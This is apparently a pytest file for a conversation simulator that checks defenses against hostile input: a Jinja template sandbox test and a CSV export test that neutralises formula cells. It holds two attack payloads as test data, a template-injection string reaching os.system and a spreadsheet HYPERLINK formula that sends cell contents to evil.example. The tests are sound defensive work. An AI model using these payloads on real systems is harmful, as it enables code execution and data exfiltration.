"""Hostile input: doctored databases, credentials in URLs, model output that drives a terminal or a spreadsheet,
prompt templates that try to run code (issue 24, items 9-13)."""

from __future__ import annotations

import csv

import pytest
from stub_server import StubServer

from evaluations.analysis.frame import export
from simulator.conversation.prompts import Prompts
from simulator.core.errors import UserError
from simulator.runs.batch import run_grid


def test_a_prompt_template_cannot_reach_python_internals(tmp_path):
    marker = tmp_path / "pwned"
    (tmp_path / "x.j2").write_text("Hi {{ lipsum.__globals__['os'].system('touch " + str(marker) + "') }}")
    with pytest.raises(UserError, match=r"x.j2: .*sandbox"):
        Prompts((tmp_path,)).render("x")
    assert not marker.exists()
    (tmp_path / "y.j2").write_text("{% for n in names %}{{ n | upper }}{% if not loop.last %}, {% endif %}{% endfor %}")
    assert Prompts((tmp_path,)).render("y", names=["a", "b"]) == "A, B"  # ordinary templates render as before


async def test_csv_export_neutralises_formula_cells(tmp_path):
    db = tmp_path / "n.db"
    with StubServer() as url:
        run_id = await run_grid({"personas": "aloof", "max_turns": 1, "judges": 0}, db=db, base_url=url,
                                run_id='=HYPERLINK("http://evil.example/?"&A1,"open")')
    export(run_id, db, "csv", tmp_path / "e.csv")
    with open(tmp_path / "e.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["run_id"] == "'" + run_id  # a spreadsheet shows it as text, never evaluates it
    assert rows[0]["rep"] == "0" and rows[0]["persona"] == "aloof"  # numbers and plain text untouched
    cells = [v for row in rows for v in row.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
